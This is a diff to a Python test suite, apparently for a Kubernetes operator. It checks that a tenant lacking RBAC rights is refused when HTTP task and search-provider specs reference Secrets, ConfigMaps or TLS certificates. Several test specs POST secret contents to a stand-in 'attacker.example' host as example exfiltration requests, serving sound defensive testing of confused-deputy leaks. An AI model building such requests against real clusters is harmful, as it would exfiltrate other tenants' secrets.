@@ -150,6 +150,14 @@ class Tenants:
             ),
         )
 
+    def may_get_config_map(self, account: str, *names: str) -> None:
+        self.grant(
+            account,
+            client.V1PolicyRule(
+                api_groups=[""], resources=["configmaps"], resource_names=list(names), verbs=["get"]
+            ),
+        )
+
     def may_create_token(self, account: str, *service_accounts: str) -> None:
         self.grant(
             account,
@@ -205,6 +213,7 @@ class Case:
     # What the tenant is then granted (secrets to get, or ServiceAccounts to mint for).
     secrets: tuple[str, ...] = ()
     service_accounts: tuple[str, ...] = ()
+    config_maps: tuple[str, ...] = ()
     # Granted before the first attempt, so the refusal names the other field.
     granted_first: tuple[str, ...] = ()
 
@@ -224,7 +233,61 @@ def _oauth2(client_id: str, client_secret: str) -> Body:
     }
 
 
+def _request_with(**fields: Any) -> Body:
+    return {"request": {"url": "https://attacker.example/collect", "method": "POST", **fields}}
+
+
 CASES = {
+    "httptask-body-secret": Case(
+        "httptasks",
+        _request_with(bodyFrom={"secretKeyRef": {"name": "keyed", "key": "key"}}),
+        'user may not get Secret "keyed" named by spec.request.bodyFrom.secretKeyRef',
+        secrets=("keyed",),
+    ),
+    # ConfigMaps too: the body is sent to the author's URL (a confused deputy otherwise).
+    "httptask-body-configmap": Case(
+        "httptasks",
+        _request_with(bodyFrom={"configMapKeyRef": {"name": "settings", "key": "key"}}),
+        'user may not get ConfigMap "settings" named by spec.request.bodyFrom.configMapKeyRef',
+        config_maps=("settings",),
+    ),
+    "httptask-tls-client-certificate": Case(
+        "httptasks",
+        _request_with(tls={"clientCertificateFrom": {"secretName": "client-cert"}}),
+        'user may not get Secret "client-cert" named by spec.request.tls.clientCertificateFrom',
+        secrets=("client-cert",),
+    ),
+    "httptask-tls-ca-bundle": Case(
+        "httptasks",
+        _request_with(tls={"caBundleFrom": {"configMapKeyRef": {"name": "cas", "key": "ca"}}}),
+        'user may not get ConfigMap "cas" named by spec.request.tls.caBundleFrom',
+        config_maps=("cas",),
+    ),
+    "search-inline-provider-body": Case(
+        "searches",
+        {
+            "query": "q",
+            "providers": [
+                {
+                    "name": "site",
+                    "url": "https://attacker.example/?q={query}",
+                    "method": "POST",
+                    "bodyFrom": {"secretKeyRef": {"name": "keyed", "key": "key"}},
+                },
+            ],
+        },
+        'user may not get Secret "keyed" named by spec.providers[site].bodyFrom.secretKeyRef',
+        secrets=("keyed",),
+    ),
+    "searchprovider-tls-client-certificate": Case(
+        "searchproviders",
+        {
+            "url": "https://attacker.example/?q={query}",
+            "tls": {"clientCertificateFrom": {"secretName": "client-cert"}},
+        },
+        'user may not get Secret "client-cert" named by spec.tls.clientCertificateFrom',
+        secrets=("client-cert",),
+    ),
     "httptask-header": Case(
         "httptasks",
         {
@@ -321,6 +384,8 @@ def test_every_way_of_naming_a_secret_or_a_token_is_refused_to_a_tenant_without_
         tenants.may_get_secret("tenant", *case.secrets)
     if case.service_accounts:
         tenants.may_create_token("tenant", *case.service_accounts)
+    if case.config_maps:
+        tenants.may_get_config_map("tenant", *case.config_maps)
     accepted_eventually(
         lambda: tenant.create(case.plural, case.spec), "the tenant's grant reaches the authorizer"
     )
